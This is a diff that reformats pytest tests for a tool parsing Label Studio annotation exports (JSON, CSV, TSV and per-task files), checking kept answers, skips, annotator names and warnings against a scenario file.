 def test_check_label_studio_file_reports_answers_and_warnings(project, capsys):
     f = project / "export.json"
-    f.write_text(ls_text([ls_task(7, CAT[0], [ls_ann(1, "cat", updated="2024-06-01T00:00:00Z"), ls_ann(2, "dog", by=2),
-                                              ls_ann(3, "dog", by=3, cancelled=True)]),
-                          ls_task(8, DOG[0], [ls_ann(4, None)])]))
+    f.write_text(
+        ls_text(
+            [
+                ls_task(
+                    7,
+                    CAT[0],
+                    [
+                        ls_ann(1, "cat", updated="2024-06-01T00:00:00Z"),
+                        ls_ann(2, "dog", by=2),
+                        ls_ann(3, "dog", by=3, cancelled=True),
+                    ],
+                ),
+                ls_task(8, DOG[0], [ls_ann(4, None)]),
+            ]
+        )
+    )
     rc, out, _ = run_check(capsys, f, "--config", project / "al.yaml")
     assert rc == 0 and "1 cancelled" in out and "each a skip" in out
     assert "task 7: 3 answers kept, newest first: #1 'cat' by 1, #3 'skip' by 3, #2 'dog' by 2" in out
@@ -859,10 +1052,18 @@ def test_labels_cli_usage_and_registration(capsys):
 
 # ---------------------------------------------------------------- the real Label Studio 1.23.2 exports
 LS_DATA = ROOT / "tests" / "data" / "label-studio-1.23.2"
-LS_FILES = ["export/JSON.json", "export/JSON-all.json", "export/JSON_MIN.json", "export/JSON_MIN-all.json",
-            "export/CSV.csv", "export/CSV-all.csv", "export/TSV.csv", "export/TSV-all.csv",
-            *(f"target-per-task/{p.name}" for p in sorted((LS_DATA / "target-per-task").iterdir())),
-            *(f"target-per-annotation/{p.name}" for p in sorted((LS_DATA / "target-per-annotation").iterdir()))]
+LS_FILES = [
+    "export/JSON.json",
+    "export/JSON-all.json",
+    "export/JSON_MIN.json",
+    "export/JSON_MIN-all.json",
+    "export/CSV.csv",
+    "export/CSV-all.csv",
+    "export/TSV.csv",
+    "export/TSV-all.csv",
+    *(f"target-per-task/{p.name}" for p in sorted((LS_DATA / "target-per-task").iterdir())),
+    *(f"target-per-annotation/{p.name}" for p in sorted((LS_DATA / "target-per-annotation").iterdir())),
+]
 
 
 @pytest.mark.parametrize("rel", LS_FILES)
@@ -873,15 +1074,20 @@ def test_every_real_label_studio_export_reads_the_same_answers(tmp_path, rel):
     data = (LS_DATA / rel).read_bytes()
     for fake, real in ids.items():
         data = data.replace(fake.encode(), real.encode())
-    p = parse(tmp_path, data, name=rel.replace("/", "-"), classes=("cat", "dog", "ship"),
-              known_image_ids=set(ids.values()))
+    p = parse(
+        tmp_path, data, name=rel.replace("/", "-"), classes=("cat", "dog", "ship"), known_image_ids=set(ids.values())
+    )
     assert p.ok and p.errors == (), p.errors
     scenario = json.loads((LS_DATA / "scenario.json").read_text())
     users = scenario["users"]
-    expected = {(a["annotation_id"], a["task_id"], a["choice"] or "skip", a["lead_time"], a["annotator"])
-                for a in scenario["annotations"] if a["what"] != "empty"}
-    got = {(int(r.annotation_id), int(r.task_id), r.label, r.seconds, users.get(r.annotator, r.annotator))
-           for r in p.rows}
+    expected = {
+        (a["annotation_id"], a["task_id"], a["choice"] or "skip", a["lead_time"], a["annotator"])
+        for a in scenario["annotations"]
+        if a["what"] != "empty"
+    }
+    got = {
+        (int(r.annotation_id), int(r.task_id), r.label, r.seconds, users.get(r.annotator, r.annotator)) for r in p.rows
+    }
     if rel.startswith("target"):
         task = int(rel.split("/")[1].split(".")[0])
         by = "task_id" if rel.startswith("target-per-task") else "annotation_id"
@@ -890,11 +1096,17 @@ def test_every_real_label_studio_export_reads_the_same_answers(tmp_path, rel):
         expected = {e for e in expected if e[2] != "skip"}  # JSON_MIN, CSV, TSV leave the skipped task out
     assert got == expected
     assert all(r.seconds_source == "lead_time" and r.annotated_at is not None for r in p.rows)
-    assert p.format == {"export/JSON": "label_studio", "export/JSON_MIN": "label_studio_min",
-                        "export/CSV": "label_studio_csv", "export/TSV": "label_studio_tsv",
-                        "target-per-task": "label_studio_task",
-                        "target-per-annotation": "label_studio_annotation"}[rel.split("/")[0] if rel.startswith(
-                            "target") else rel.rsplit(".", 1)[0].removesuffix("-all")]
+    assert (
+        p.format
+        == {
+            "export/JSON": "label_studio",
+            "export/JSON_MIN": "label_studio_min",
+            "export/CSV": "label_studio_csv",
+            "export/TSV": "label_studio_tsv",
+            "target-per-task": "label_studio_task",
+            "target-per-annotation": "label_studio_annotation",
+        }[rel.split("/")[0] if rel.startswith("target") else rel.rsplit(".", 1)[0].removesuffix("-all")]
+    )
     # the empty Submit (task 4, annotation 3): a warning naming both, wherever the file holds it
     holds_empty = not rel.startswith("target") or rel.split("/")[1] in ("4.json", "3")
     assert [(w.task_id, w.annotation_id) for w in p.warnings] == ([("4", "3")] if holds_empty else [])
